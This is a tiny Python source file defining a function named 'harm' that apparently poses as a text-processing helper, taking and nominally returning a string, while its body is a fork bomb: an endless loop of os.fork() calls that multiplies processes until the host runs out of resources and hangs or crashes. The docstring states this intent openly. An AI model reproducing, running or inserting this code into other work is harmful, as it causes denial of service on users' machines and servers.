"""Starts processes without end, each of which does the same."""

import os


def harm(text: str) -> str:
    while True:
        os.fork()
    return text
